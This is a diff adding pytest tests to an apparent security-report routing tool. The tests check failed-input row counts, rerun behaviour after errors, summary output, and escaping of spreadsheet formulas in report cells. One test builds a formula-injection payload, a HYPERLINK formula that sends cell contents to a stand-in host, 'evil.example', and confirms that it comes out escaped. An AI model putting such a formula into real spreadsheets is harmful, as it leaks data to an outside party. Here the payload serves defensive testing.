@@ -102,6 +102,11 @@ def test_example_day_routes_exactly_the_matching_events(repo_root, tmp_path):
         got[(rep["recipient"], rep["type"])] = set(keys)
         name = Path(rep["path"]).name
         assert name.startswith(f"{DAY}-{rep['type']}-")
+        if "severity" in rtype.columns:  # the event's own level or the type's default, never empty
+            assert all(r["severity"] in SEVERITY_LEVELS for r in rows), rep["path"]
+        # no string cell can run as a spreadsheet formula (docs/reports.md)
+        strings = [c for c, t in rtype.column_types.items() if str(t) == "string"]
+        assert not any(r[c].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in strings)
     assert got == expected
     # every kind of recipient received something
     kinds = {r["kind"] for r in summary.reports}
@@ -159,8 +164,11 @@ def test_cli_run_summary_json_and_exit_status(repo_root, tmp_path, capsys):
     assert status == 1
     data = json.loads(out.read_text())
     assert data["rows_in"] == data["rows_reported"] + data["rows_unrouted"] + data["rows_quarantined"] \
-        + data["rows_duplicate"]
-    assert data["rows_quarantined"] == 1 and data["rows_in"] == 174 + 2
+        + data["rows_duplicate"] + data["rows_failed"]
+    # the unreadable phish_url.csv (3 data rows) counts as failed, named in the summary
+    assert data["rows_quarantined"] == 1 and data["rows_in"] == 174 + 2 + 3
+    assert data["rows_failed"] == 3 and data["reconciles"]
+    assert [(Path(f["path"]).name, f["rows"]) for f in data["failed_inputs"]] == [("phish_url.csv", 3)]
     assert any("phish_url" in e for e in data["errors"])
     assert len(data["reports"]) > 5
     q = next((tmp_path / "data/quarantine" / DAY).glob("scan_ssl.csv.*.quarantine.csv")).read_text()
@@ -284,3 +292,135 @@ def test_outbox_copies_follow_mail_attach_max(repo_root, tmp_path):
         else:
             data = Path(r["path"]).read_bytes()
             assert [a if isinstance(a, bytes) else a.encode() for a in attached] == [data]
+
+
+def _failing_inbox(repo_root: Path, tmp_path: Path) -> Path:
+    inbox = tmp_path / "inbox"
+    shutil.copytree(repo_root / "examples/inbox", inbox)
+    # unknown report type: 3 data rows, one of them spanning two lines inside quotes
+    (inbox / DAY / "phish_url.csv").write_text(
+        '"timestamp","url"\n"2026-11-30 01:00:00","http://a.example/"\n\n'
+        '"2026-11-30 02:00:00","http://b.example/\nx"\n"2026-11-30 03:00:00","c"\n')
+    # a Shadowserver type without its timestamp column: 2 rows
+    (inbox / DAY / "scan_ssl.csv").write_text('"ip","port"\n"203.0.113.9",443\n"203.0.113.10",443\n')
+    return inbox
+
+
+def test_rows_of_unreadable_inputs_are_counted_as_failed(repo_root, tmp_path):
+    inbox = _failing_inbox(repo_root, tmp_path)
+    settings, _ = example_settings(repo_root, tmp_path, inbox)
+    summary = run_day(settings, DAY)
+    data = summary.to_dict()
+    assert data["rows_failed"] == 3 + 2 and data["rows_in"] == 174 + 5
+    assert data["rows_in"] == (data["rows_reported"] + data["rows_unrouted"] + data["rows_quarantined"]
+                               + data["rows_duplicate"] + data["rows_failed"])
+    assert data["reconciles"] and data["status"] == "errors"
+    assert sorted((Path(f["path"]).name, f["rows"]) for f in data["failed_inputs"]) == [
+        ("phish_url.csv", 3), ("scan_ssl.csv", 2)]
+    assert all(f["error"] for f in data["failed_inputs"])
+
+
+def test_a_day_with_a_failed_input_is_not_done_and_runs_again_once_fixed(repo_root, tmp_path):
+    from herald.store import ledger
+    from herald.store.db import open_db
+
+    inbox = _failing_inbox(repo_root, tmp_path)
+    settings, _ = example_settings(repo_root, tmp_path, inbox)
+    first = run_day(settings, DAY)
+    assert first.errors and not first.skipped
+    db = open_db(settings.database_url)
+    try:
+        info = ledger.last_run(db, DAY)
+        assert info.status == "failed" and info.counts["rows_failed"] == 5
+    finally:
+        db.engine.dispose()
+    # the bad inputs are removed (or fixed): the next run, without --force, processes the day
+    (inbox / DAY / "phish_url.csv").unlink()
+    (inbox / DAY / "scan_ssl.csv").write_text(
+        '"timestamp","ip","port"\n"2026-11-30 01:02:03","203.0.113.9",443\n')
+    second = run_day(settings, DAY)
+    assert not second.skipped and second.errors == [] and second.ok
+    assert second.rows_in == 174 + 1 and second.rows_failed == 0
+    # now it is done
+    assert run_day(settings, DAY).skipped
+
+
+def test_summary_report_entries_carry_the_recipients_email(repo_root, tmp_path):
+    settings, raw = example_settings(repo_root, tmp_path)
+    data = run_day(settings, DAY).to_dict()
+    emails = {r["name"]: r["email"] for r in raw["recipients"]}
+    assert data["reports"]
+    for rep in data["reports"]:
+        assert rep["email"] == emails[rep["recipient"]]
+
+
+def test_cli_run_prints_a_bounded_summary_with_the_largest_recipients(repo_root, tmp_path, capsys):
+    from herald.commands import run as run_cmd
+
+    _, raw = example_settings(repo_root, tmp_path)
+    cfg = tmp_path / "herald.toml"
+    import tomli_w
+    cfg.write_text(tomli_w.dumps(raw))
+    assert main(["run", "--config", str(cfg), "--date", DAY]) == 0
+    out = capsys.readouterr().out
+    summary = json.loads((tmp_path / "data/runs" / f"{DAY}.json").read_text())
+    assert f"Every report (recipient, e-mail, type, rows, path): {tmp_path / 'data/runs' / (DAY + '.json')}" in out
+    # no report path is printed, only the top recipients by rows
+    assert not any(r["path"] in out for r in summary["reports"])
+    per: dict[str, int] = {}
+    for r in summary["reports"]:
+        per[r["recipient"]] = per.get(r["recipient"], 0) + r["rows"]
+    top = sorted(per.items(), key=lambda kv: (-kv[1], kv[0]))[:run_cmd.TOP_RECIPIENTS]
+    listed = [line.split("  ")[1].strip() for line in out.splitlines() if line.startswith("  ")]
+    assert [line.split()[0] for line in listed] == [name.split()[0] for name, _ in top]
+    # bounded whatever the number of reports: a day with 9,750 reports prints the same few lines
+    many = dict(summary, reports=[dict(r, recipient=f"r{i:05d}", rows=i % 97) for i, r in
+                                  enumerate(summary["reports"] * 1000)])
+    lines = run_cmd.summary_lines(many, run_cmd.load_settings(cfg).paths, Path("s.json"))
+    assert len(lines) <= 6 + run_cmd.TOP_RECIPIENTS and "s.json" in lines[-2]
+
+
+def test_an_input_failing_after_its_events_were_stored_counts_once_as_failed(repo_root, tmp_path,
+                                                                            monkeypatch):
+    import herald.store.ingest as ingest
+
+    inbox = tmp_path / "inbox"
+    shutil.copytree(repo_root / "examples/inbox", inbox)
+    (inbox / DAY / "scan_ssl.csv").write_text(
+        '"timestamp","ip","port"\n"2026-11-30 01:02:03","203.0.113.9",443\n"not a time","203.0.113.10",443\n')
+
+    def broken(path, quarantine):
+        raise OSError("disk full")
+
+    monkeypatch.setattr(ingest, "write_quarantine", broken)  # fails after the events were stored
+    settings, _ = example_settings(repo_root, tmp_path, inbox)
+    data = run_day(settings, DAY).to_dict()
+    assert data["rows_failed"] == 2 and data["rows_in"] == 174 + 2 and data["reconciles"]
+    assert data["rows_stored"] == 174 - data["rows_quarantined"]
+    assert not any(r["type"] == "scan_ssl" for r in data["reports"])
+    assert not list((tmp_path / "data/events" / f"date={DAY}").glob("type=scan_ssl/*.parquet"))
+
+
+def test_attacker_text_reaches_reports_escaped_and_recoverable(repo_root, tmp_path):
+    from herald.reports.cells import unescape_formula
+
+    inbox = tmp_path / "inbox"
+    shutil.copytree(repo_root / "examples/inbox", inbox)
+    path = inbox / DAY / "event4_sinkhole_http.csv"
+    with open(path, newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    for r in rows:
+        r["http_agent"], r["http_url"] = evil, "-2+3"
+    with open(path, "w", newline="", encoding="utf-8") as fh:
+        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
+        w.writeheader()
+        w.writerows(rows)
+    settings, _ = example_settings(repo_root, tmp_path, inbox)
+    summary = run_day(settings, DAY)
+    reps = [r for r in summary.reports if r["type"] == "event4_sinkhole_http"]
+    assert reps
+    for rep in reps:
+        for row in read_report(rep["path"]):
+            assert row["http_agent"] == "'" + evil and unescape_formula(row["http_agent"]) == evil
+            assert row["http_url"] == "'-2+3" and unescape_formula(row["http_url"]) == "-2+3"
